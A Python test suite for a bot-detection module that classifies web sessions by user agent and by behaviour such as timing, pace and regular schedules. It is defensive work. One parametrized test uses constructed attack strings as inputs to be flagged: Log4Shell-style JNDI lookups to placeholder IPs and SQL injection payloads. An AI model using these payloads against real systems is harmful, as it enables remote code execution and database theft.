"""Tests of helpers.bots: user-agent layer, behaviour rules, reconciliation, evaluation.

Real user-agent strings come verbatim from the data files of the two pinned packages:
fake_useragent/data/browsers.jsonl (real browsers) and crawleruseragents'
crawler-user-agents.json (the list's own examples). Strings marked "constructed" are
hand-made and say so.
"""

from __future__ import annotations

import json
import math
import re
import warnings
from pathlib import Path

import crawleruseragents
import fake_useragent
import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import bots, user_agents
from helpers.bots import BotRules

DATA = Path(__file__).resolve().parent.parent / "data"
UA_ONLY = BotRules.ua_only()

# --- real strings (verbatim) ------------------------------------------------------------
CHROME_WIN = (  # fake_useragent browsers.jsonl
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/134.0.0.0 Safari/537.36"
)
FACEBOOK_IOS = (  # fake_useragent browsers.jsonl, browser "Facebook"
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/501.2.0.65.109;FBBV/717317385;"
    "FBDV/iPhone12,8;FBMD/iPhone;FBSN/iOS;FBSV/18.3.2;FBSS/2;FBCR/;FBID/phone;FBLC/en_US;"
    "FBOP/80]"
)
INSTAGRAM_IOS = (  # fake_useragent browsers.jsonl, browser "Instagram"
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Mobile/22D82 Instagram 375.2.0.33.77 (iPhone16,1; iOS 18_3_2; "
    "en_US; en; scale=3.00; 1179x2556; 719346134)"
)
META_IAB_ANDROID = (  # crawler-user-agents.json, example of pattern "MetaIAB Facebook"
    "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) "
    "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 "
    "Mobile Safari/537.36 MetaIAB Facebook"
)
INSTAGRAM_ANDROID_AP3A = (  # crawler-user-agents.json, example of pattern AP3A\.240617\.008
    "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram "
    "406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1; mt6833; "
    "en_MY; 822918295; IABMV/1) NV/1"
)
FLUID_MAC = (  # crawler-user-agents.json, example of pattern "Fluid"
    "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_5_6; en-us) AppleWebKit/528.16 "
    "(KHTML, like Gecko) Fluid/0.9.6 Safari/528.16"
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
REAL_AGENTS = Path(__file__).resolve().parent / "data" / "real_user_agents.txt"


def _real_agents() -> list[tuple[str, str]]:
    """(category, agent) pairs of tests/data/real_user_agents.txt (sources in the file)."""
    with REAL_AGENTS.open(encoding="utf-8") as handle:
        rows = [line.rstrip("\n").split("\t", 1) for line in handle]
    return [(row[0], row[1]) for row in rows if len(row) == 2 and not row[0].startswith("#")]


def _real(category: str) -> str:
    return next(agent for cat, agent in _real_agents() if cat == category)


ALLOW_EXAMPLES = {
    "meta_in_app_browser": META_IAB_ANDROID,
    "android_build_AP3A.240617.008": INSTAGRAM_ANDROID_AP3A,
    "fluid_app": FLUID_MAC,
    "sogou_browser": _real("human-sogou"),
    "viber_in_app_browser": _real("human-viber"),
    "slack_desktop": _real("human-slack"),
    "blackboard_app": (  # CrawlerDetect devices.txt (crawlerdetect 0.4.2 sdist)
        "Mozilla/5.0 (iPhone; CPU iPhone OS 11_3 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Mobile/15E216 Blackboard/3.6.1"
    ),
}


def _browser_strings() -> list[str]:
    path = Path(fake_useragent.__file__).parent / "data" / "browsers.jsonl"
    with path.open(encoding="utf-8") as handle:
        return sorted({json.loads(line)["useragent"] for line in handle})


def _crawler_instances() -> list[str]:
    return sorted({i for d in crawleruseragents.CRAWLER_USER_AGENTS_DATA for i in d["instances"]})


def _agents(*agents) -> pd.DataFrame:
    return pd.DataFrame(
        {"session_id": [f"s{i}" for i in range(len(agents))], "user_agent": list(agents)}
    )


def _reason(agent, **kw) -> str:
    return bots.label(_agents(agent), UA_ONLY, **kw)["bot_reason"].iloc[0]


def test_strings_are_verbatim_from_package_data():
    browsers = set(_browser_strings())
    instances = set(_crawler_instances())
    assert {CHROME_WIN, FACEBOOK_IOS, INSTAGRAM_IOS} <= browsers
    assert {META_IAB_ANDROID, INSTAGRAM_ANDROID_AP3A, FLUID_MAC, GOOGLEBOT} <= instances


# --- user-agent layer -------------------------------------------------------------------


def test_list_layer_flags_a_known_crawler_and_names_the_pattern():
    assert _reason(GOOGLEBOT) == "ua:list"
    verdict = bots.ua_verdicts([GOOGLEBOT]).iloc[0]
    assert verdict["list_pattern"] == r"Googlebot\/"
    assert _reason(GOOGLEBOT, fallback=False) == "ua:list"


def test_a_real_browser_is_human():
    assert _reason(CHROME_WIN) == ""


@pytest.mark.parametrize("entry", bots.ALLOW_LIST, ids=lambda e: e.name)
def test_allow_list_entry_saves_its_real_human_string(entry):
    agent = ALLOW_EXAMPLES[entry.name]
    patterns = [d["pattern"] for d in crawleruseragents.CRAWLER_USER_AGENTS_DATA]
    assert entry.pattern in patterns, "the list no longer has this pattern: drop the entry"
    assert re.search(entry.pattern, agent), "the list pattern must flag the example"
    assert crawleruseragents.is_crawler(agent), "the package itself calls it a crawler"
    assert entry.reason and "\n" not in entry.reason
    verdict = bots.ua_verdicts([agent]).iloc[0]
    assert not verdict["is_bot"]
    assert verdict["allowed_by"] == entry.name
    assert verdict["list_pattern"] == ""
    assert _reason(agent) == ""


def _real_params():
    return pytest.mark.parametrize(
        ("category", "agent"),
        _real_agents(),
        ids=[f"{c}-{i}" for i, (c, _) in enumerate(_real_agents())],
    )


@_real_params()
def test_real_agents_of_every_category(category, agent):
    expected = category.startswith("bot-")
    # "human-case" agents hold a list pattern in another case ("Panasonic" / "Sonic"): a
    # pipeline that lower-cases agents cannot tell them apart any more, so only as written
    spellings = (agent,) if category == "human-case" else (agent, agent.lower(), agent.upper())
    for spelling in spellings:
        verdict = bots.ua_verdicts([spelling]).iloc[0]
        assert verdict["is_bot"] == expected, (spelling, verdict["reason"])


def test_real_agents_file_has_every_category_and_a_source():
    text = REAL_AGENTS.read_text(encoding="utf-8")
    categories = {c for c, _ in _real_agents()}
    assert {
        "human-android-model",
        "human-uc",
        "human-quark",
        "human-qq",
        "human-heytap",
        "human-sogou",
        "human-viber",
        "human-slack",
        "bot-tool",
        "bot-google",
        "bot-scanner",
        "bot-garbage",
    } <= categories
    assert text.count("[CD") + text.count("[MT") + text.count("[GH") >= 10


def test_android_model_slot_is_never_read_as_a_client_name():
    agents = [a for c, a in _real_agents() if c == "human-android-model"]
    assert len(agents) >= 5
    v = bots.ua_verdicts(agents)
    assert not v["is_bot"].any(), v[["user_agent", "reason"]]
    # constructed: the same phone string with a crawler token after the slot stays a bot
    assert _reason(agents[0] + " (compatible; Googlebot/2.1)") == "ua:list"
    # what the masking sees
    assert "B BOT" not in user_agents._mask_device_models(agents[:1])[0]


@pytest.mark.parametrize(
    ("agent", "token"),
    [  # constructed injection strings (the payload shapes of Log4Shell and SQL injection)
        ("${jndi:ldap://203.0.113.9:1389/a}", "garbage"),
        ("Mozilla/5.0 ${jndi:dns://198.51.100.7/x}", "garbage"),
        ("' OR '1'='1", "garbage"),
        ("Mozilla/5.0' UNION SELECT password FROM users--", "garbage"),
        ("1' AND SLEEP(5)#", "garbage"),
        ("javascript:alert(1)", "garbage"),
        ("...", "garbage"),
        # product tokens of tools (constructed version numbers)
        ("kube-probe/1.29", "tool"),
        ("collectd/5.12.0", "tool"),
        ("k6/0.49.0 (https://k6.io/)", "tool"),
        ("Apache-JMeter/5.6.3", "tool"),
        ("Prometheus/2.51.0", "tool"),
        ("Blackbox-Exporter/0.24.0", "tool"),
        ("Datadog Agent/7.52.0", "tool"),
        ("Google-Read-Aloud", "google-service"),
        (
            "APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)",
            "google-service",
        ),
        ("GoogleOther", "google-service"),
        ("Google-Extended", "google-service"),
        (
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "scanner",
        ),
    ],
)
def test_new_fallback_tokens(agent, token):
    assert _reason(agent) in (f"ua:fallback:{token}", "ua:list")
    assert bots.ua_verdicts([agent.lower()]).iloc[0]["is_bot"]


def test_a_lower_cased_pipeline_keeps_recall_and_precision():
    crawlers = _crawler_instances()
    mixed = bots.ua_verdicts(crawlers)["is_bot"].mean()
    lower = bots.ua_verdicts([c.lower() for c in crawlers])["is_bot"].mean()
    assert lower >= mixed - 0.001  # was 12.6 points lower before the list went case-blind
    browsers = _browser_strings()
    assert bots.ua_verdicts([b.lower() for b in browsers])["is_bot"].mean() < 0.005


def test_shape_rule_is_opt_in_and_catches_what_no_token_names():
    odd = "WeLikeLinks - WeAreNotEvil"  # CrawlerDetect crawlers.txt: no bot word at all
    assert _reason(odd) == ""
    labelled = bots.label(_agents(odd, CHROME_WIN), UA_ONLY, shape=True)
    assert labelled["bot_reason"].tolist() == ["ua:shape", ""]
    v = bots.ua_verdicts([odd, CHROME_WIN], shape=True)
    assert v.set_index("user_agent").loc[odd, "reason"] == "ua:shape"
    # its price: real browsers not shaped like one (here an Amiga browser, fake_useragent-free)
    assert bots.ua_verdicts(["IBrowse/2.55 (AmigaOS 3.2)"], shape=True)["is_bot"].all()


def test_allow_list_excuses_only_its_pattern_in_a_browser_shape():
    # constructed: the in-app string with a crawler token added, and a bot named Fluid
    assert _reason(META_IAB_ANDROID + " Googlebot/2.1") == "ua:list"
    assert _reason("FluidFetcher/1.0") == "ua:list"
    # Sogou's, Viber's and Slack's fetchers stay bots [CD crawlers.txt / constructed]
    assert _reason("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)")
    assert _reason("Viber Url Downloader") == "ua:list"
    assert _reason("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)") == "ua:list"


def test_meta_in_app_browsers_on_ios_are_not_flagged_at_all():
    for agent in (FACEBOOK_IOS, INSTAGRAM_IOS):
        assert not crawleruseragents.is_crawler(agent)
        assert _reason(agent) == ""


@pytest.mark.parametrize(
    ("agent", "token"),
    [  # constructed agents the list (1.67.0) does not know
        ("brewlark-price-scraper/0.3", "scrape"),
        ("BrewBot/1.0", "bot"),
        ("acme-crawl-engine 2.0", "crawl"),
        ("CoffeeSpider/0.1", "spider"),
        ("CoffeeWatch/2.0 (+https://watch.example.com/)", "url"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessBrew/120.0 Safari/537.36",
            "headless",
        ),
        ("BrewlarkSync/2.1 (http-client)", "http-client"),
        ("Brewlark uptime-probe 3", "fetcher"),
    ],
)
def test_fallback_catches_self_declared_bots_and_can_be_switched_off(agent, token):
    assert _reason(agent) == f"ua:fallback:{token}"
    assert _reason(agent, fallback=False) == ""


@pytest.mark.parametrize(
    "agent",
    [  # constructed in the shape of real phones and apps whose names contain bot-ish words
        "Mozilla/5.0 (Linux; Android 10; CUBOT_X30) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 12; KINGKONG 9 Build/SP1A.210812.016; Cubot) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Botanica/2.1",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Lightspeed/1.0",
    ],
)
def test_fallback_spares_bot_like_words_in_human_agents(agent):
    assert _reason(agent) == ""


@pytest.mark.parametrize("missing", [None, np.nan, pd.NA, "", "   ", "-"])
def test_missing_user_agent(missing):
    frame = _agents(missing, CHROME_WIN)
    out = bots.label(frame, UA_ONLY)
    assert out["bot_reason"].tolist() == ["ua:missing", ""]
    assert out["is_bot"].tolist() == [True, False]
    off = bots.label(frame, BotRules.ua_only(missing_ua=False))
    assert off["bot_reason"].tolist() == ["", ""]


def test_each_distinct_agent_is_classified_once(monkeypatch):
    seen = []
    real = bots._classify

    def spy(agents):
        seen.append(list(agents))
        return real(agents)

    monkeypatch.setattr(bots, "_classify", spy)
    out = bots.label(_agents(*([GOOGLEBOT, CHROME_WIN] * 50)), UA_ONLY)
    assert len(out) == 100
    assert sorted(seen[0]) == sorted([GOOGLEBOT, CHROME_WIN])


def test_trigram_screen_is_exact_against_brute_force():
    agents = _browser_strings()[::4] + _crawler_instances()[::2]
    agents += ["café-bot/1.0 (ünïcode)", "x\x00bot", "ab"]  # constructed edge cases
    m = user_agents._matcher()
    rows, pids = user_agents._screen(agents, m)
    screened = set(zip(rows.tolist(), pids.tolist(), strict=True))
    brute = {(i, p) for i, a in enumerate(agents) for p, rx in enumerate(m.regexes) if rx.search(a)}
    assert brute <= screened


def test_ua_verdicts_counts_and_explains():
    v = bots.ua_verdicts([GOOGLEBOT, GOOGLEBOT, None, "", CHROME_WIN, META_IAB_ANDROID])
    assert v["sessions"].sum() == 6
    by_agent = v.set_index("user_agent")
    assert by_agent.loc[GOOGLEBOT, "sessions"] == 2
    assert by_agent.loc["", "reason"] == "ua:missing"
    assert by_agent.loc["", "sessions"] == 2
    assert by_agent.loc[META_IAB_ANDROID, "allowed_by"] == "meta_in_app_browser"
    assert by_agent.loc[GOOGLEBOT, "fallback_token"] == "bot"
    with pytest.raises(TypeError, match="not a single string"):
        bots.ua_verdicts(GOOGLEBOT)


# --- quality on real strings ------------------------------------------------------------


def test_quality_false_positives_on_real_browsers():
    humans = _browser_strings() + list(ALLOW_EXAMPLES.values())
    v = bots.ua_verdicts(humans)
    fp_rate = v["is_bot"].mean()
    assert len(v) >= 800
    assert fp_rate < 0.005, v.loc[v["is_bot"], ["user_agent", "reason"]]
    # without the allow-list these would be flagged: the list alone is not enough
    assert (v["allowed_by"] != "").sum() == len(ALLOW_EXAMPLES)


def test_quality_recall_on_the_lists_crawlers_per_layer():
    v = bots.ua_verdicts(_crawler_instances())
    crawlers = v[v["allowed_by"] == ""]  # the allow-listed examples are people
    assert len(crawlers) >= 2000
    list_recall = (crawlers["list_pattern"] != "").mean()
    fallback_recall = (crawlers["fallback_token"] != "").mean()
    both = crawlers["is_bot"].mean()
    # The list recognises its own examples (anything less means the matcher is broken).
    assert list_recall >= 0.999
    # The fallback alone, which never saw the list, finds 83.3% (1.67.0); 0.80 leaves room
    # for list releases that add quieter crawlers without letting the fallback rot.
    assert fallback_recall >= 0.80
    assert both >= 0.999
    assert bots.ua_verdicts(_crawler_instances(), fallback=False)["is_bot"].mean() >= 0.99


# --- behaviour rules --------------------------------------------------------------------


def _visits(**columns) -> pd.DataFrame:
    n = len(next(iter(columns.values())))
    base = {
        "session_id": [f"s{i}" for i in range(n)],
        "visitor_id": [f"v{i}" for i in range(n)],
        "ip": [f"192.0.2.{i % 250}" for i in range(n)],
        "started_at": pd.date_range("2025-03-03 09:00", periods=n, freq="37min", tz="UTC")
        + pd.to_timedelta(np.arange(n) ** 2, unit="s"),
        "landing_page": ["/"] * n,
        "user_agent": [CHROME_WIN] * n,
        "duration_s": [120.0] * n,
        "pageviews": [3] * n,
        "form_seconds": [np.nan] * n,
    }
    base.update(columns)
    return pd.DataFrame(base)


def test_too_fast_boundary():
    frame = _visits(duration_s=[1.99, 2.0, 0.0, 0.5], pageviews=[3, 3, 2, 10])
    out = bots.label(frame, BotRules(max_pages_per_minute=None))
    assert out["bot_reason"].tolist() == ["behaviour:too_fast", "", "", "behaviour:too_fast"]


def test_pages_per_minute_boundary():
    frame = _visits(duration_s=[6.0, 5.9, 2.0, 600.0], pageviews=[3, 3, 2, 60])
    out = bots.label(frame)
    # 30.0 exactly does not fire (above 30 does); 2 pages are too few to judge a pace
    assert out["bot_reason"].tolist() == ["", "behaviour:pages_per_minute", "", ""]


def _timer(gaps, *, visitor="v-mon", ip=None, page="/"):
    start = pd.Timestamp("2025-03-03 00:00", tz="UTC")
    times = start + pd.to_timedelta(np.concatenate([[0], np.cumsum(gaps)]), unit="s")
    n = len(times)
    return _visits(
        started_at=times,
        visitor_id=[visitor] * n if visitor else [f"x{i}" for i in range(n)],
        ip=[ip] * n if ip else [f"203.0.113.{i}" for i in range(n)],
        landing_page=[page] * n,
    )


def test_schedule_fires_on_a_timer_and_boundary_tolerance():
    assert bots.label(_timer([300] * 5))["bot_reason"].eq("behaviour:schedule").all()
    # median gap 300 s: gaps 240/360 are exactly 60 s (the absolute tolerance) off the beat
    # and fire; 239/361 do not
    assert bots.label(_timer([240, 360] * 3))["is_bot"].all()
    assert not bots.label(_timer([239, 361] * 3))["is_bot"].any()
    rules = BotRules(schedule_tolerance_seconds=61)
    assert bots.label(_timer([239, 361] * 3), rules)["is_bot"].all()
    # median gap 100 s: the tolerance is capped at 25% of it (25 s): 75/125 fire, 74/126 not
    assert bots.label(_timer([75, 125] * 3))["is_bot"].all()
    assert not bots.label(_timer([74, 126] * 3))["is_bot"].any()
    assert bots.label(_timer([74, 126] * 3), BotRules(schedule_tolerance=0.26))["is_bot"].all()
    # same IP, a fresh cookie each time: still a timer
    assert bots.label(_timer([60] * 8, visitor=None, ip="198.51.100.7"))["is_bot"].all()
    # ... unless the IP key is not used
    rules = BotRules(schedule_keys=("visitor_id",))
    assert not bots.label(_timer([60] * 8, visitor=None, ip="198.51.100.7"), rules)["is_bot"].any()


def _jittered(period, jitter, n, *, seed=0, rotate_ips=False, agent=None):
    rng = np.random.default_rng(seed)
    seconds = np.arange(n) * period + rng.uniform(-jitter, jitter, n)
    frame = _visits(
        started_at=pd.Timestamp("2025-03-03", tz="UTC") + pd.to_timedelta(seconds, unit="s"),
        visitor_id=[f"x{i}" for i in range(n)],  # monitors keep no cookie
        # a pool of probe addresses picked at random: no address keeps the beat
        ip=[f"203.0.113.{rng.integers(1, 250) if rotate_ips else 9}" for _ in range(n)],
        landing_page=["/health"] * n,
    )
    if agent is not None:
        frame["user_agent"] = agent
    return frame


def test_schedule_catches_a_jittery_five_minute_monitor():
    # every 5 minutes, each start 20 s early or late: gaps from 260 to 340 s
    frame = _jittered(300, 20, 40)
    assert bots.label(frame)["bot_reasons"].str.contains("behaviour:schedule").mean() >= 0.9
    # the same monitor judged with the old relative tolerance (5% of 300 s = 15 s) is missed
    old = BotRules(schedule_tolerance_seconds=3600, schedule_tolerance=0.05)
    assert bots.label(frame, old)["bot_reasons"].str.contains("behaviour:schedule").mean() < 0.5


def test_schedule_catches_monitors_that_rotate_probe_addresses():
    agent = "Mozilla/5.0 (compatible; Sentinel/2.0)"  # constructed, no bot word
    frame = _jittered(300, 20, 40, rotate_ips=True, agent=agent)
    labelled = bots.label(frame)
    assert labelled["bot_reasons"].str.contains("behaviour:schedule").mean() >= 0.9
    # only the agent ties the probes together
    rules = BotRules(schedule_keys=("visitor_id", "ip"))
    assert not bots.label(frame, rules)["bot_reasons"].str.contains("schedule").any()


def test_schedule_spares_a_person_with_a_weekday_habit():
    # every weekday at 09:00 +- 30 min for two weeks, same visitor, IP and page
    rng = np.random.default_rng(1)
    days = pd.bdate_range("2025-03-03", periods=10, tz="UTC")
    times = days + pd.Timedelta(hours=9) + pd.to_timedelta(rng.uniform(-1800, 1800, 10), unit="s")
    frame = _visits(
        started_at=times,
        visitor_id=["v-habit"] * 10,
        ip=["192.0.2.44"] * 10,
        landing_page=["/blog"] * 10,
    )
    assert not bots.label(frame)["is_bot"].any()  # 10 of 10 were flagged before
    old = BotRules(schedule_tolerance_seconds=86400, schedule_tolerance=0.05)
    assert bots.label(frame, old)["is_bot"].sum() >= 5


def test_schedule_min_sessions_boundary():
    assert bots.label(_timer([300] * 5))["is_bot"].all()  # 6 sessions
    assert not bots.label(_timer([300] * 4))["is_bot"].any()  # 5 sessions < 6
    eight = BotRules(schedule_min_sessions=8)
    assert bots.label(_timer([300] * 7), eight)["is_bot"].all()
    assert not bots.label(_timer([300] * 6), eight)["is_bot"].any()


def _with_a_visit(gaps, after, *, seconds):
    """A timer on one IP (a new cookie each time, as the kit's disguised monitor) and one
    person behind the same IP who opens the same page ``seconds`` after beat ``after``."""
    timer = _timer(gaps, visitor=None, ip="198.51.100.77")
    person = timer.iloc[[after]].assign(
        session_id="person",
        visitor_id="v-person",
        started_at=timer["started_at"].iloc[after] + pd.Timedelta(seconds=seconds),
    )
    return pd.concat([timer, person], ignore_index=True)


def test_schedule_survives_a_person_between_two_beats():
    frame = _with_a_visit([4 * 3600] * 167, 80, seconds=2 * 3600)  # 168 beats, as lesson 07
    gaps = frame["started_at"].sort_values().diff().dropna().dt.total_seconds()
    assert gaps.std(ddof=0) / gaps.mean() > 0.05, "the old measure (CV of all gaps) misses it"
    out = bots.label(frame)
    person = out["session_id"].eq("person")
    assert out.loc[~person, "bot_reason"].eq("behaviour:schedule").all()
    assert not out.loc[person, "is_bot"].any()
    strict = BotRules(schedule_min_on_beat=1.0)  # every gap on the beat: the person hides it
    assert not bots.label(frame, strict)["is_bot"].any()


def test_schedule_share_of_gaps_on_the_beat_boundary():
    # one visit between two beats turns one on-beat gap into two odd ones:
    # 10 beats (9 gaps) + 1 visit = 8 of 10 gaps on the beat = 80%: fires
    out = bots.label(_with_a_visit([300] * 9, 4, seconds=100))
    assert out["is_bot"].tolist() == [True] * 10 + [False]
    # 9 beats (8 gaps) + 1 visit = 7 of 9 gaps on the beat = 78% < 80%: does not
    assert not bots.label(_with_a_visit([300] * 8, 4, seconds=100))["is_bot"].any()
    looser = BotRules(schedule_min_on_beat=0.75)
    assert bots.label(_with_a_visit([300] * 8, 4, seconds=100), looser)["is_bot"].sum() == 9
    # a missed beat (a double gap) costs one gap, and every timer session is still flagged
    assert bots.label(_timer([300] * 4 + [600] + [300] * 4))["is_bot"].all()


def test_schedule_cannot_tell_a_visit_on_the_beat_from_the_timer():
    # a person 10 s before a beat has a gap on the beat to the previous one: flagged too
    out = bots.label(_with_a_visit([300] * 9, 4, seconds=290))
    assert out["is_bot"].all()


def test_schedule_gives_sessions_at_the_same_instant_the_same_verdict():
    timer = _timer([300] * 6)
    twice = pd.concat([timer, timer.iloc[[-1]]], ignore_index=True)  # the last beat, logged twice
    assert bots.label(twice)["is_bot"].all()
    assert bots.label(twice.iloc[::-1])["is_bot"].all()


def _schedule_by_hand(frame: pd.DataFrame, rules: BotRules) -> np.ndarray:
    """The schedule rule group by group, with Python loops: the reference for the
    vectorised version."""
    flagged = np.zeros(len(frame), dtype=bool)
    start = frame["started_at"]
    for key in rules.schedule_keys:
        if key not in frame.columns:
            continue
        usable = frame[key].notna() & frame["landing_page"].notna() & start.notna()
        for _, group in frame[usable].groupby([key, "landing_page"]):
            if len(group) < rules.schedule_min_sessions:
                continue
            positions = np.flatnonzero(frame.index.isin(group.index))
            epoch = pd.Timestamp("1970-01-01", tz="UTC")
            times = (start.iloc[positions] - epoch).dt.total_seconds().to_numpy()
            positions = positions[np.argsort(times, kind="stable")]
            times = np.sort(times)
            gaps = np.diff(times)
            beat = np.median(gaps)
            tolerance = min(rules.schedule_tolerance_seconds, rules.schedule_tolerance * beat)
            on = (beat > 0) & (np.abs(gaps - beat) <= tolerance)
            if on.sum() < rules.schedule_min_on_beat * len(gaps) - 1e-9:
                continue
            hit = np.zeros(len(times), dtype=bool)
            for i, gap_on in enumerate(on):
                if gap_on:
                    hit[i] = hit[i + 1] = True
            for i in range(len(times)):  # sessions at the same instant share the verdict
                hit[i] = hit[times == times[i]].any()
            flagged[positions[hit]] = True
    return flagged


def _timer_and_visits(seed: int) -> tuple[pd.DataFrame, BotRules]:
    """Random sessions for the reference test, with the rules to judge them by."""
    rng = np.random.default_rng(seed)
    n = int(rng.integers(0, 150))
    beat = int(rng.choice([60, 300, 3600, 86400]))
    rules = BotRules(
        schedule_min_sessions=int(rng.integers(3, 8)),
        schedule_min_on_beat=float(rng.choice([0.6, 0.8, 0.9, 1.0])),
    )
    # half the rows are a timer on one IP and page (jitter of a few seconds, a few missed
    # beats), the rest visits at random times, some of them behind the timer's IP
    on_timer = np.arange(n) < n // 2
    beats = np.cumsum(rng.choice([1] * 18 + [2, 3], n))
    seconds = np.where(
        on_timer, beats * beat + rng.integers(-3, 4, n), rng.integers(0, 3 * n * beat + 1, n)
    )
    copies = ~on_timer & (rng.random(n) < 0.1)  # some visits at the very second of a beat
    if n >= 2:
        seconds[copies] = seconds[rng.integers(0, n // 2, copies.sum())]
    started = pd.Series(pd.Timestamp("2025-03-03", tz="UTC") + pd.to_timedelta(seconds, unit="s"))
    started[rng.random(n) < 0.03] = pd.NaT
    visitor = rng.choice(np.array(["a", "b", None], dtype=object), n)
    ip = rng.choice(np.array(["192.0.2.1", "192.0.2.2", "192.0.2.3", None], dtype=object), n)
    page = rng.choice(np.array(["/", "/shop"], dtype=object), n)
    ip[on_timer], page[on_timer] = "192.0.2.1", "/"
    visitor[on_timer] = rng.choice(np.array(["m", None], dtype=object), on_timer.sum())
    frame = pd.DataFrame(
        {"visitor_id": visitor, "ip": ip, "started_at": started.array, "landing_page": page},
        index=rng.permutation(np.arange(n)) + 10,
    )
    return frame, rules


def test_schedule_matches_a_group_by_group_reference():
    fired = 0
    for seed in range(60):
        frame, rules = _timer_and_visits(seed)
        got = bots._schedule("label", frame, rules)
        np.testing.assert_array_equal(got, _schedule_by_hand(frame, rules), err_msg=f"seed {seed}")
        fired += 0 < got.sum() < len(frame)
    assert fired >= 10, "too few cases where the rule fires for some sessions only"


def test_schedule_needs_the_same_page_and_ignores_other_rows():
    timer = _timer([300] * 7)
    timer["landing_page"] = ["/", "/shop"] * 4
    assert not bots.label(timer)["is_bot"].any()
    mixed = pd.concat([_visits(duration_s=[30.0] * 3), _timer([300] * 6)], ignore_index=True)
    out = bots.label(mixed)
    assert out["is_bot"].tolist() == [False] * 3 + [True] * 7


def test_fast_form_boundary():
    frame = _visits(form_seconds=[2.99, 3.0, np.nan, 0.0])
    out = bots.label(frame)
    assert out["bot_reason"].tolist() == ["behaviour:fast_form", "", "", "behaviour:fast_form"]
    assert bots.label(frame, BotRules(fast_form_seconds=None))["bot_reason"].eq("").all()


def test_precedence_and_all_reasons():
    frame = _visits(
        user_agent=[GOOGLEBOT, CHROME_WIN],
        duration_s=[0.1, 0.1],
        pageviews=[8, 8],
        form_seconds=[0.5, 0.5],
    )
    out = bots.label(frame)
    assert out["bot_reason"].tolist() == ["ua:list", "behaviour:too_fast"]
    assert out["bot_reasons"].iloc[0] == (
        "ua:list; behaviour:too_fast; behaviour:pages_per_minute; behaviour:fast_form"
    )
    assert out["bot_reasons"].iloc[1].startswith("behaviour:too_fast; ")


def test_rules_can_be_switched_off_and_validated():
    assert BotRules.ua_only().enabled == ()
    assert BotRules().enabled == (
        "robots_txt",
        "too_fast",
        "pages_per_minute",
        "schedule",
        "fast_form",
        "spread",
    )
    for bad in (-1, "60s"):
        with pytest.raises(ValueError, match="schedule_tolerance_seconds"):
            BotRules(schedule_tolerance_seconds=bad)
    for bad in (1, 2.5):
        with pytest.raises(ValueError, match="spread_min_ips"):
            BotRules(spread_min_ips=bad)
    with pytest.raises(ValueError, match="spread_window_minutes"):
        BotRules(spread_window_minutes=0)
    with pytest.raises(ValueError, match="too_fast_seconds"):
        BotRules(too_fast_seconds=-1)
    with pytest.raises(ValueError, match="schedule_min_sessions"):
        BotRules(schedule_min_sessions=2)
    for bad in (-0.01, 1.0, "5%"):
        with pytest.raises(ValueError, match="schedule_tolerance"):
            BotRules(schedule_tolerance=bad)
    for bad in (0, 1.2, None):
        with pytest.raises(ValueError, match="schedule_min_on_beat"):
            BotRules(schedule_min_on_beat=bad)
    with pytest.raises(dataclasses_error()):
        BotRules().too_fast_seconds = 5  # frozen


def dataclasses_error():
    import dataclasses

    return dataclasses.FrozenInstanceError


# --- reconciliation, immutability, properties -------------------------------------------


def _mixed_frame() -> pd.DataFrame:
    frame = _visits(
        user_agent=[
            GOOGLEBOT,
            CHROME_WIN,
            None,
            "BrewlarkSync/2.1 (http-client)",
            FACEBOOK_IOS,
            CHROME_WIN,
        ],
        duration_s=[3.0, 0.2, 50.0, 1.0, 40.0, 80.0],
        pageviews=[1, 6, 2, 1, 3, 2],
        form_seconds=[np.nan, np.nan, np.nan, np.nan, 0.4, 25.0],
    )
    frame.index = [10, 3, 7, 7, 1, 2]  # unordered, duplicated: must survive
    return frame


def test_reconciliation_and_report():
    frame = _mixed_frame()
    out = bots.label(frame)
    assert len(out) == len(frame)
    assert out.index.equals(frame.index)
    humans, removed = bots.split(out)
    assert len(humans) + len(removed) == len(frame)
    assert not humans["is_bot"].any() and removed["is_bot"].all()
    table = bots.report(out)
    assert table.loc["total", "sessions"] == len(frame)
    assert table["sessions"].drop("total").sum() == len(frame)
    assert math.isclose(table["share"].drop("total").sum(), 1.0)
    assert table.loc["human", "sessions"] == len(humans)
    assert list(table.index) == [
        "human",
        "ua:list",
        "ua:fallback:http-client",
        "ua:missing",
        "behaviour:too_fast",
        "behaviour:fast_form",
        "total",
    ]
    kept = bots.filter(frame)
    assert list(kept.columns) == list(frame.columns)
